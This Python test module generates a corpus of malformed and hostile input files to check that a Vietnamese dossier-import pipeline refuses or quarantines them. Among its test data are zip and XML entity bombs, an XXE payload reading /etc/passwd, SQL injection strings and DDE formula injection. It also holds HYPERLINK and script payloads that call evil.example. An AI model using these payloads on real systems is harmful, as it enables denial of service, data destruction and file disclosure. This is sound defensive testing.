"""Generator of malformed and hostile input files (the "bad input corpus").

Nothing here is committed as data: ``build_corpus(directory)`` writes every file into a temp directory
when the test runs (1M-character cells and zip bombs stay out of git). Each ``Case`` says what the import
must do with the file:

- ``file``: the whole file is refused with a Vietnamese message (``imports.status = 'failed'``);
- ``rows``: the file loads but the bad rows are quarantined in ``rejects`` with a reason;
- ``any``: no crash; either a clear file-level message or a load (encodings the readers may repair).

Run ``python -m tests.corpus.build DIR`` to look at the files by hand.
"""

from __future__ import annotations

import json
import struct
import sys
import unicodedata
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pandas as pd

from sample_data.synth import export_frame, write_csv, write_xlsx

BASE_ROWS = 60
MILLION = 1_000_000
_TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    expect: str  # file | rows | any
    message: str = ""  # substring the file-level message must contain (folded comparison not needed)
    reason: str = ""  # substring one reject reason must contain
    description: str = ""


def base_frame(seed: int = 11, rows: int = BASE_ROWS) -> pd.DataFrame:
    """A clean export (Hải Phòng communes) whose rows all load."""
    return export_frame(rows, seed=seed, n_units=3)


def good_export(path: Path) -> Path:
    """The known-good import that every corpus run must leave unchanged."""
    return write_csv(base_frame(seed=1, rows=120), path)


def _fresh(seed: int, tag: str) -> pd.DataFrame:
    """A clean frame whose dossier codes cannot collide with the good import or another case."""
    frame = base_frame(seed=seed)
    frame["Mã hồ sơ"] = tag + "-" + frame["Mã hồ sơ"].astype(str)
    return frame


def _csv_text(frame: pd.DataFrame) -> str:
    return frame.to_csv(sep=";", index=False)


def to_cp1258(text: str) -> bytes:
    """Windows-1258 bytes as Vietnamese legacy tools write them: base letter + combining tone mark."""
    out = []
    for char in unicodedata.normalize("NFC", text):
        try:
            out.append(char.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            pass
        decomposed = unicodedata.normalize("NFD", char)
        tones = "".join(c for c in decomposed if c in _TONES)
        base = unicodedata.normalize("NFC", "".join(c for c in decomposed if c not in _TONES))
        out.append((base + tones).encode("cp1258", errors="replace"))
    return b"".join(out)


def _zip_bomb(path: Path, template: Path, inflated: int, lie_in_directory: bool) -> Path:
    """A real xlsx (``template``) whose first sheet XML is replaced by rows inflating to ``inflated`` bytes."""
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c></row>' * 2000
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(member, source.read(member))
                continue
            with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
                sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
                            b'.org/spreadsheetml/2006/main"><sheetData>')
                written = 0
                while written < inflated:
                    sheet.write(row)
                    written += len(row)
                sheet.write(b"</sheetData></worksheet>")
    if lie_in_directory:
        _patch_directory_sizes(path, b"xl/worksheets/sheet1.xml", 4096)
    return path


def _patch_directory_sizes(path: Path, member: bytes, fake_size: int) -> None:
    """Rewrite the declared uncompressed size in the central directory (what a hostile tool would do)."""
    data = bytearray(path.read_bytes())
    position = data.find(b"PK\x01\x02")
    while position != -1:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if bytes(data[position + 46:position + 46 + name_length]) == member:
            struct.pack_into("<L", data, position + 24, fake_size)
        position = data.find(b"PK\x01\x02", position + 4)
    path.write_bytes(bytes(data))


def _xlsx_with_formulas(path: Path, frame: pd.DataFrame) -> Path:
    import xlsxwriter

    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("Danh sách")
    sheet.write_row(0, 0, list(frame.columns))
    for number, row in enumerate(frame.astype(object).where(frame.notna(), "").itertuples(index=False), start=1):
        sheet.write_row(number, 0, list(row))
    name_col = list(frame.columns).index("Tên thủ tục hành chính")
    sheet.write_formula(1, name_col, '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', None, "Bấm vào đây")
    sheet.write_formula(2, name_col, '=cmd|\' /C calc\'!A0', None, "0")
    sheet.write_formula(3, name_col, "=1+1", None, 2)
    workbook.close()
    return path


def _empty_xlsx(path: Path, header_only: list[str] | None = None) -> Path:
    import xlsxwriter

    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("Trống")
    if header_only:
        sheet.write_row(0, 0, header_only)
    for index in range(3):
        workbook.add_worksheet(f"Trống {index}")
    workbook.close()
    return path


def _dvcqg_record(code: str, **overrides) -> dict:
    record = {"MaHoSo": code, "MaTTHC": "1.001234", "TenTTHC": "Đăng ký khai sinh", "KenhThucHien": 2,
              "NgayTiepNhan": "20250804080000", "NgayHenTra": "20250806170000", "TrangThaiHoSo": 4,
              "DonViXuLy": "Xã Tứ Kỳ", "ChuHoSo": "Nguyễn Văn A", "SoDienThoai": "0912345678"}
    record.update(overrides)
    return record


# --- attack files of issue 12 (grid and memory bombs, stray quotes) ------------------------------------
_XLSX_PARTS = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook'
    '.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
    'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.'
    'org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}
_SHEET_OPEN = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
               b'spreadsheetml/2006/main">')


def raw_xlsx(path: Path, sheet_chunks, *, level: int = 6) -> Path:
    """A minimal xlsx written part by part; ``sheet_chunks`` yields the worksheet XML (bytes) in pieces."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, text in _XLSX_PARTS.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for chunk in sheet_chunks:
                sheet.write(chunk)
    return path


def far_cells_xlsx(path: Path, *, declare_dimension: bool = True) -> Path:
    """5 KB: cells at A1 and XFD1048576. The Excel parser allocates the whole 17-billion-cell grid (512 GiB)
    and aborts the process. Without ``<dimension>`` only the parse itself can notice."""
    dimension = b'<dimension ref="A1:XFD1048576"/>' if declare_dimension else b""
    return raw_xlsx(path, [_SHEET_OPEN, dimension, b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
                           b"M\xc3\xa3 h\xe1\xbb\x93 s\xc6\xa1</t></is></c></row><row r=\"1048576\"><c r=\"XFD1048576\" "
                           b't="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'])


def many_cells_xlsx(path: Path, cells: int = 9_000_000, width: int = 20) -> Path:
    """Compressed about 100x (under the 150x zip-bomb limit) with more cells than the xlsx grid limit
    (``r`` attributes are optional in the format: cells follow each other)."""
    row = b"<row>" + b"<c><v>1</v></c>" * width + b"</row>"

    def chunks():
        yield _SHEET_OPEN + b"<sheetData>"
        for _ in range(cells // width // 10_000):
            yield row * 10_000
        yield b"</sheetData></worksheet>"
    return raw_xlsx(path, chunks(), level=1)


_SS_HEAD = ('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-'
            'com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="A">'
            "<Table>")


def spreadsheetml_far_row(path: Path) -> Path:
    """512 bytes asking for 30 million rows (``<Row ss:Index="30000000">``)."""
    body = ('<Row><Cell><Data ss:Type="String">Mã hồ sơ</Data></Cell><Cell><Data ss:Type="String">Ngày tiếp nhận'
            '</Data></Cell></Row><Row ss:Index="30000000"><Cell><Data ss:Type="String">x</Data></Cell></Row>')
    return _write(path, _SS_HEAD + body + "</Table></Worksheet></Workbook>")


def spreadsheetml_far_cell(path: Path) -> Path:
    """1.2 KB of cells with huge ``ss:Index`` values (one row thousands of millions of cells wide)."""
    cells = "".join(f'<Cell ss:Index="{index * 200_000_000}"><Data ss:Type="String">x</Data></Cell>'
                    for index in range(1, 15))
    return _write(path, _SS_HEAD + f"<Row>{cells}</Row></Table></Worksheet></Workbook>")


def html_span_bomb(path: Path) -> Path:
    """7 KB: 200 cells of ``colspan=1000 rowspan=1000``."""
    rows = "".join("<tr>" + '<td colspan="1000" rowspan="1000">x</td>' * 20 + "</tr>" for _ in range(10))
    return _write(path, f"<html><body><table><tr><th>Mã hồ sơ</th><th>Ngày tiếp nhận</th></tr>{rows}"
                        "</table></body></html>")


def json_scalar_array(path: Path, megabytes: int = 40) -> Path:
    """A JSON array of 40 MB of scalars (``[1,1,1,...]``)."""
    count = megabytes * 1024 * 1024 // 2
    with path.open("wb") as handle:
        handle.write(b"[")
        block = b"1," * 1_000_000
        for _ in range(count // 1_000_000):
            handle.write(block)
        handle.write(b"1]")
    return path


def build_bombs(directory: str | Path) -> dict[str, Path]:
    """The memory bombs of issue 12 (measured peaks 5.6-6.3 GB before the grid limits)."""
    out = Path(directory)
    out.mkdir(parents=True, exist_ok=True)
    return {
        "spreadsheetml_far_row": spreadsheetml_far_row(out / "far_row.xml"),
        "spreadsheetml_far_cell": spreadsheetml_far_cell(out / "far_cell.xml"),
        "html_span_bomb": html_span_bomb(out / "spans.html"),
        "json_scalar_array": json_scalar_array(out / "scalars40.json"),
        "xlsx_many_cells": many_cells_xlsx(out / "many_cells.xlsx"),
        "xlsx_far_cells": far_cells_xlsx(out / "far.xlsx"),
    }


def stray_quote_csv(path: Path, *, line: int, closed_after: int | None = None, rows: int = 2000,
                    tag: str = "Q") -> Path:
    """An export whose procedure cell on data line ``line`` opens a '"' that is never closed, or is closed
    ``closed_after`` lines later."""
    frame = _fresh(30 + line, tag)
    if len(frame) < rows:
        frame = export_frame(rows, seed=30 + line, n_units=3)
        frame["Mã hồ sơ"] = tag + "-" + frame["Mã hồ sơ"].astype(str)
    lines = _csv_text(frame).splitlines()
    column = list(frame.columns).index("Tên thủ tục hành chính")

    def mark(number: int, opening: bool) -> None:
        cells = lines[number].split(";")
        cells[column] = '"' + cells[column] if opening else cells[column] + '"'
        lines[number] = ";".join(cells)

    mark(line, True)
    if closed_after is not None:
        mark(line + closed_after, False)
    return _write(path, "\n".join(lines) + "\n")


def _write(path: Path, data: bytes | str) -> Path:
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def build_corpus(directory: str | Path, now: datetime | None = None) -> list[Case]:
    """Write every hostile file into ``directory``; return the cases in a stable order."""
    out = Path(directory)
    out.mkdir(parents=True, exist_ok=True)
    now = now or datetime.now()
    cases: list[Case] = []

    def add(name: str, path: Path, expect: str, description: str, message: str = "", reason: str = "") -> None:
        cases.append(Case(name, path, expect, message, reason, description))

    good_xlsx = write_xlsx(_fresh(2, "X"), out / "base.xlsx")
    raw = good_xlsx.read_bytes()

    # --- broken containers ------------------------------------------------------------------------
    add("truncated_xlsx", _write(out / "truncated.xlsx", raw[: len(raw) // 2]), "file", "xlsx cắt đôi")
    add("truncated_xlsx_tiny", _write(out / "truncated_tiny.xlsx", raw[:30]), "file", "chỉ còn 30 byte đầu")
    add("zip_bomb_xlsx", _zip_bomb(out / "bomb.xlsx", good_xlsx, 48 * 1024 * 1024, lie_in_directory=False), "file",
        "sheet1.xml nở ra 48 MB từ ~50 KB", message="zip bomb")
    add("zip_bomb_lying_directory", _zip_bomb(out / "bomb_lie.xlsx", good_xlsx, 48 * 1024 * 1024, lie_in_directory=True),
        "file", "như trên nhưng thư mục zip khai 4 KB", message="zip bomb")
    add("random_bytes_as_xlsx", _write(out / "random.xlsx", bytes(range(256)) * 64), "file", "rác nhị phân đuôi .xlsx")
    add("ole_header_garbage_xls", _write(out / "garbage.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000),
        "file", "chữ ký OLE/BIFF rồi toàn 0")
    add("png_as_csv", _write(out / "image.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8), "file", "ảnh PNG đặt tên .csv")
    add("empty_file", _write(out / "empty.csv", b""), "file", "0 byte")
    add("whitespace_only", _write(out / "blank.csv", "\ufeff \r\n\r\n   \n"), "file", "chỉ có BOM và dòng trống")
    add("empty_sheets_xlsx", _empty_xlsx(out / "empty_sheets.xlsx"), "file", "4 trang tính trống")
    add("header_only_xlsx", _empty_xlsx(out / "header_only.xlsx", list(base_frame().columns)), "file",
        "có dòng tiêu đề cột, không có dòng dữ liệu")

    # --- encodings and Unicode --------------------------------------------------------------------
    add("csv_cp1258", _write(out / "cp1258.csv", to_cp1258(_csv_text(_fresh(3, "E1")))), "any",
        "CSV mã Windows-1258 (dấu thanh tổ hợp)")
    add("csv_utf16", _write(out / "utf16.csv", _csv_text(_fresh(4, "E2")).encode("utf-16")), "any", "CSV UTF-16 có BOM")
    add("csv_invalid_utf8", _write(out / "bad_utf8.csv", _csv_text(_fresh(5, "E3")).encode("utf-8")
                                   .replace("Tứ".encode(), b"T\xff\xfe")), "any", "byte UTF-8 sai giữa tên đơn vị")
    nfd = _fresh(6, "E4")
    nfd.columns = [unicodedata.normalize("NFD", c) if i % 2 else c for i, c in enumerate(nfd.columns)]
    unit_col = nfd.columns[2]
    nfd[unit_col] = [unicodedata.normalize("NFD", v) if i % 2 else v for i, v in enumerate(nfd[unit_col])]
    add("mixed_nfc_nfd", _write(out / "nfc_nfd.csv", _csv_text(nfd)), "any", "tiêu đề và tên đơn vị trộn NFC/NFD")
    add("csv_with_nul_bytes", _write(out / "nul.csv", _csv_text(_fresh(7, "E5")).replace("Có", "C\x00ó")), "any",
        "ký tự NUL trong ô")

    # --- structure ----------------------------------------------------------------------------------
    add("missing_code_column", _write(out / "no_code.csv", _csv_text(_fresh(8, "S1").drop(columns=["Mã hồ sơ"]))),
        "file", "thiếu cột Mã hồ sơ", message="Mã hồ sơ")
    add("missing_received_column", _write(out / "no_received.csv",
                                          _csv_text(_fresh(9, "S2").drop(columns=["Ngày tiếp nhận"]))),
        "file", "thiếu cột Ngày tiếp nhận", message="tiếp nhận")
    add("unrecognised_headers", _write(out / "strange.csv", "a;b;c\n1;2;3\n4;5;6\n"), "file", "không có tiêu đề nào quen")
    ragged = _csv_text(_fresh(10, "S3")).splitlines()
    ragged[5] += ";thừa;thừa nữa"
    ragged[9] = ragged[9].split(";", 3)[0]
    add("ragged_rows", _write(out / "ragged.csv", "\n".join(ragged) + "\n"), "any", "dòng thừa cột, dòng thiếu cột")
    add("header_only_csv", _write(out / "header_only.csv", ";".join(base_frame().columns) + "\n"), "file",
        "CSV chỉ có tiêu đề")

    # --- row values (quarantine) ------------------------------------------------------------------
    dup = _fresh(12, "R1")
    dup.loc[5, "Mã hồ sơ"] = dup.loc[4, "Mã hồ sơ"]
    add("duplicate_codes", _write(out / "duplicates.csv", _csv_text(dup)), "rows", "2 dòng cùng mã hồ sơ",
        reason="trùng")
    future = _fresh(13, "R2")
    future.loc[0:2, "Ngày tiếp nhận"] = (now + timedelta(days=400)).strftime("%d/%m/%Y %H:%M")
    add("dates_in_future", _write(out / "future.csv", _csv_text(future)), "rows", "ngày tiếp nhận sau 1 năm nữa",
        reason="tương lai")
    old = _fresh(14, "R3")
    old.loc[0:2, "Ngày tiếp nhận"] = "15/06/1999 08:00"
    add("dates_before_2000", _write(out / "before2000.csv", _csv_text(old)), "rows", "ngày tiếp nhận năm 1999",
        reason="2000")
    order = _fresh(15, "R4")
    order.loc[0:2, "Ngày tiếp nhận"] = "20/08/2025 08:00"
    order.loc[0:2, "Ngày kết thúc xử lý"] = "01/08/2025 08:00"
    add("finished_before_received", _write(out / "finished_first.csv", _csv_text(order)), "rows",
        "ngày kết thúc trước ngày tiếp nhận", reason="trước")
    garbage = _fresh(16, "R5")
    garbage.loc[0, "Ngày tiếp nhận"] = "31/02/2025"
    garbage.loc[1, "Ngày tiếp nhận"] = "hôm qua"
    garbage.loc[2, "Ngày tiếp nhận"] = "2025-13-45"
    add("impossible_dates", _write(out / "bad_dates.csv", _csv_text(garbage)), "rows", "31/02, 'hôm qua', tháng 13",
        reason="Không đọc được ngày")
    unknown_unit = _fresh(17, "R6")
    unknown_unit.loc[0:1, "Đơn vị tiếp nhận"] = "Xã Tân Tiến"  # exists in several provinces
    add("ambiguous_unit", _write(out / "ambiguous_unit.csv", _csv_text(unknown_unit)), "any",
        "tên xã trùng ở nhiều tỉnh")
    sql = _fresh(18, "R7")
    sql.loc[0, "Mã hồ sơ"] = "R7-'; DROP TABLE dossiers; --"
    sql.loc[1, "Tên thủ tục hành chính"] = "x'); DELETE FROM units; --"
    add("sql_injection_text", _write(out / "sql.csv", _csv_text(sql)), "any", "chuỗi SQL injection trong ô")
    money = _fresh(19, "R8")
    money["Phí (VNĐ)"] = money["Phí (VNĐ)"].astype(object)
    money.loc[0, "Phí (VNĐ)"] = "99999999999999999999999999"
    money.loc[1, "Phí (VNĐ)"] = "-5.000"
    money.loc[2, "Phí (VNĐ)"] = "năm nghìn"
    add("bad_money", _write(out / "money.csv", _csv_text(money)), "rows", "phí quá lớn, âm, bằng chữ")

    # --- huge cells and formulas -------------------------------------------------------------------
    huge = _fresh(20, "H1")
    huge["Tên thủ tục hành chính"] = huge["Tên thủ tục hành chính"].astype(object)
    huge.loc[0, "Tên thủ tục hành chính"] = "Đăng ký " + "x" * MILLION
    add("million_char_cell", _write(out / "huge_cell.csv", _csv_text(huge)), "rows", "ô 1 triệu ký tự: dòng bị cách ly")
    huge_code = _fresh(21, "H2")
    huge_code.loc[0, "Mã hồ sơ"] = "H2-" + "9" * MILLION
    add("million_char_code", _write(out / "huge_code.csv", _csv_text(huge_code)), "rows", "mã hồ sơ 1 triệu ký tự: dòng bị cách ly")
    add("xlsx_formulas", _xlsx_with_formulas(out / "formulas.xlsx", _fresh(22, "F1")), "any",
        "ô công thức =HYPERLINK, DDE =cmd|, =1+1")
    formulas = _fresh(23, "F2")
    formulas["Tên thủ tục hành chính"] = formulas["Tên thủ tục hành chính"].astype(object)
    formulas.loc[0, "Tên thủ tục hành chính"] = "=HYPERLINK(\"http://evil.example\",\"x\")"
    formulas.loc[1, "Tên thủ tục hành chính"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    formulas.loc[2, "Tên thủ tục hành chính"] = "+cmd|' /C notepad'!A0"
    add("csv_formula_text", _write(out / "formulas.csv", _csv_text(formulas)), "any", "chuỗi công thức trong CSV")

    # --- HTML / XML ---------------------------------------------------------------------------------
    frame = _fresh(24, "M1")
    table_html = frame.to_html(index=False)
    html = ("\ufeff<html><head><script>alert(document.cookie)</script></head><body>"
            "<p>ỦY BAN NHÂN DÂN XÃ TỨ KỲ</p><img src=x onerror=alert(1)>"
            + table_html.replace("<td>", "<td><script>fetch('http://evil.example')</script>", 3)
            + "<iframe src='http://evil.example'></iframe></body></html>")
    add("html_with_scripts", _write(out / "scripts.xls", html), "any", "HTML .xls có <script>, onerror, iframe")
    add("html_without_table", _write(out / "no_table.xls", "<html><body><p>Không có bảng</p></body></html>"),
        "file", "HTML không có bảng")
    add("html_broken_tags", _write(out / "broken.html", table_html[: len(table_html) // 2]), "any",
        "HTML bị cắt giữa chừng")
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
              + ']><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:'
              'spreadsheet"><Worksheet><Table><Row><Cell><Data>&lol9;</Data></Cell></Row></Table></Worksheet>'
              "</Workbook>")
    add("xml_billion_laughs", _write(out / "laughs.xls", laughs), "file", "SpreadsheetML có bom thực thể XML")
    xxe = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           '<?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
           "<Worksheet><Table><Row><Cell><Data>Mã hồ sơ</Data></Cell><Cell><Data>Ngày tiếp nhận</Data></Cell></Row>"
           "<Row><Cell><Data>&xxe;</Data></Cell><Cell><Data>01/08/2025</Data></Cell></Row></Table></Worksheet>"
           "</Workbook>")
    add("xml_external_entity", _write(out / "xxe.xls", xxe), "any", "SpreadsheetML đọc /etc/passwd qua XXE")

    # --- JSON ---------------------------------------------------------------------------------------
    add("json_wrong_types", _write(out / "wrong_types.json", json.dumps(
        {"service": "DongBoHoSoMC", "data": [_dvcqg_record("J1-1", NgayTiepNhan=20250804),
                                             _dvcqg_record("J1-2", MaHoSo={"x": 1}),
                                             _dvcqg_record("J1-3", NgayTiepNhan=["a"], TrangThaiHoSo="abc"),
                                             _dvcqg_record("J1-4", KenhThucHien=None, NgayTiepNhan=True),
                                             _dvcqg_record("J1-5")]}, ensure_ascii=False)),
        "any", "JSON sai kiểu: số, object, list, bool thay cho chuỗi")
    add("json_data_not_list", _write(out / "data_obj.json", json.dumps({"service": "DongBoHoSoMC", "data": {"a": 1}})),
        "file", "\"data\" là object")
    add("json_scalar_list", _write(out / "scalars.json", "[1, 2, 3]"), "file", "danh sách số")
    add("json_truncated", _write(out / "truncated.json", json.dumps({"data": [_dvcqg_record("J2-1")]})[:70]),
        "file", "JSON bị cắt")
    add("json_deep_nesting", _write(out / "deep.json", "[" * 100_000 + "]" * 100_000), "file", "100.000 mức lồng nhau")
    # --- issue 12: grids that would not fit in memory, stray quotes ------------------------------------
    add("xlsx_far_cells", far_cells_xlsx(out / "far.xlsx"), "file", "5 KB, ô A1 và XFD1048576 (khai báo)",
        message="1.048.576 dòng")
    add("xlsx_far_cells_undeclared", far_cells_xlsx(out / "far_undeclared.xlsx", declare_dimension=False), "file",
        "5 KB, ô A1 và XFD1048576 không khai báo <dimension>: tiến trình đọc bị dừng")
    add("spreadsheetml_far_row", spreadsheetml_far_row(out / "far_row.xml"), "file", "Row ss:Index=30000000",
        message="vượt giới hạn")
    add("spreadsheetml_far_cell", spreadsheetml_far_cell(out / "far_cell.xml"), "file", "Cell ss:Index rất lớn",
        message="vượt giới hạn")
    add("html_span_bomb", html_span_bomb(out / "spans.html"), "file", "200 ô colspan=1000 rowspan=1000",
        message="vượt giới hạn")
    add("csv_quote_early", stray_quote_csv(out / "quote_early.csv", line=3, tag="Q1"), "file",
        "dấu \" không đóng ở đầu tệp", message="ngoặc kép")
    add("csv_quote_late", stray_quote_csv(out / "quote_late.csv", line=1950, tag="Q2"), "file",
        "dấu \" không đóng gần cuối tệp", message="ngoặc kép")
    add("csv_quote_closed_later", stray_quote_csv(out / "quote_closed.csv", line=100, closed_after=10, tag="Q3"),
        "file", "dấu \" đóng 10 dòng sau", message="ngoặc kép")
    add("json_nan_infinity", _write(out / "nan.json", '{"data": [{"MaHoSo": NaN, "NgayTiepNhan": Infinity}]}'),
        "any", "NaN/Infinity (không hợp lệ theo chuẩn JSON)")
    return cases


def main(argv: list[str]) -> None:
    target = Path(argv[1] if len(argv) > 1 else "corpus-out")
    for case in build_corpus(target):
        print(f"{case.name:<28} {case.expect:<5} {case.path.name:<22} {case.description}")


if __name__ == "__main__":
    main(sys.argv)
